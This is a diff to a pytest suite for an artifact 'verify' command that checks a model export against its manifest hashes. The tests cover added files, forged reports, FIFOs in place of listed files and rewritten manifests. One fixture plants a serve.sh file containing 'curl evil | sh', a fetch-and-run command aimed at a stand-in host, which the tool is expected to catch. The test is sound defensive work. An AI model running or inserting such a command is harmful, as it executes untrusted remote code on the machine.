@@ -1,13 +1,16 @@
-"""`verify DIR`: nothing an artifact names may lead outside it (manifest entries, paths a target records), and a
-link planted in model/ is a difference. Artifacts are made by hand here: verify reads only files and hashes."""
+"""`verify DIR`: every file of the artifact is listed and hashed (added, changed, missing files, links and special
+files anywhere are differences); nothing an artifact names may lead outside it (manifest entries, paths a target
+records). Artifacts are made by hand here: verify reads only files and hashes."""
 
 from __future__ import annotations
 
 import json
+import os
 
 from click.testing import CliRunner
 
 from lorafast_export.cli import main
+from lorafast_export.manifest import MANIFEST_SCHEMA
 from lorafast_export.weights import sha256_file
 
 
@@ -17,7 +20,8 @@ def make_artifact(root, target="onnxruntime", decoder_file="model.onnx"):
     (model / "model.onnx").write_bytes(b"graph")
     (model / "genai_config.json").write_text(json.dumps({"model": {"decoder": {"filename": decoder_file}}}))
     files = [{"path": f"model/{p.name}", "sha256": sha256_file(p)} for p in sorted(model.iterdir())]
-    (root / "manifest.json").write_text(json.dumps({"recipe": {"target": {"name": target}}, "files": files}))
+    man = {"schema": MANIFEST_SCHEMA, "recipe": {"target": {"name": target}}, "files": files}
+    (root / "manifest.json").write_text(json.dumps(man))
     return root
 
 
@@ -67,3 +71,61 @@ def test_links_in_model_are_differences(tmp_path):
     r = CliRunner().invoke(main, ["--json", "verify", str(art)])
     res = json.loads(r.stdout)
     assert r.exit_code == 1 and res["links"] == [f"model/more -> {tmp_path}"] and not res["ok"]
+
+
+def test_files_added_anywhere_are_differences(tmp_path):
+    """Issue 16 #8: a serve.sh at the root, or a file beside the reports, is not part of the artifact."""
+    art = make_artifact(tmp_path / "a")
+    (art / "serve.sh").write_text("curl evil | sh\n")
+    (art / "reports").mkdir()
+    (art / "reports" / "x.md").write_text("x")
+    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
+    res = json.loads(r.stdout)
+    assert r.exit_code == 1 and res["extra"] == ["reports/x.md", "serve.sh"] and not res["ok"], r.output
+
+
+def test_a_forged_report_fails(tmp_path):
+    art = make_artifact(tmp_path / "a")
+    (art / "report.json").write_text('{"passed": true}')
+    man = json.loads((art / "manifest.json").read_text())
+    man["files"].append({"path": "report.json", "sha256": sha256_file(art / "report.json")})
+    (art / "manifest.json").write_text(json.dumps(man))
+    assert verify(art).exit_code == 0
+    (art / "report.json").write_text('{"passed": true, "forged": 1}')
+    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
+    assert r.exit_code == 1 and json.loads(r.stdout)["changed"] == ["report.json"]
+
+
+def test_special_files_are_reported_and_never_read(tmp_path):
+    """A FIFO in place of a listed file: hashing it would block forever; it is a difference instead."""
+    art = make_artifact(tmp_path / "a")
+    (art / "model" / "model.onnx").unlink()
+    os.mkfifo(art / "model" / "model.onnx")
+    r = CliRunner().invoke(main, ["--json", "verify", str(art)])
+    res = json.loads(r.stdout)
+    assert (
+        r.exit_code == 1 and res["missing"] == ["model/model.onnx"] and res["extra"] == ["model/model.onnx"]
+    )
+
+
+def test_expect_checks_the_manifest_itself(tmp_path):
+    """The manifest cannot hash itself: a rewritten manifest is caught only against a digest kept elsewhere."""
+    art = make_artifact(tmp_path / "a")
+    good = json.loads(CliRunner().invoke(main, ["--json", "verify", str(art)]).stdout)["manifest_sha256"]
+    assert good == sha256_file(art / "manifest.json")
+    assert CliRunner().invoke(main, ["verify", str(art), "--expect", good]).exit_code == 0
+    man = json.loads((art / "manifest.json").read_text())
+    (art / "model" / "model.onnx").write_bytes(b"evil")
+    man["files"][1]["sha256"] = sha256_file(art / "model" / "model.onnx")  # the forger re-hashes
+    (art / "manifest.json").write_text(json.dumps(man))
+    assert verify(art).exit_code == 0  # consistent again: only the expected digest can tell
+    r = CliRunner().invoke(main, ["verify", str(art), "--expect", good])
+    assert r.exit_code == 1 and "manifest.json (sha256" in r.output, r.output
+
+
+def test_a_manifest_that_is_not_ours_is_refused(tmp_path):
+    art = make_artifact(tmp_path / "a")
+    for text in ['{"files": []}', "[1, 2]", "\x00\x01binary", '{"schema": "lorafast-export/manifest/v2"}']:
+        (art / "manifest.json").write_text(text)
+        r = verify(art)
+        assert r.exit_code == 2 and "manifest.json" in r.output and "Traceback" not in r.output, r.output
